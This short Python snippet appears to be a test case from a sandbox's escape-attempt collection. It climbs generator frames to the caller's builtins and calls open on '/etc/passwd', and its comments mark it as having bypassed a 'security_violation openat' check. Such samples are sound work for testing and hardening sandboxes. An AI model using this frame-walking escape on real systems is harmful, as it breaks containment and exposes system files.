# Takes the frame of a generator up to its caller.
# checked: invalid_code
# bypassed: security_violation openat
def walk():
    yield frame.gi_frame.f_back.f_back
frame = walk()
for found in frame:
    found.f_builtins['open']('/etc/passwd')
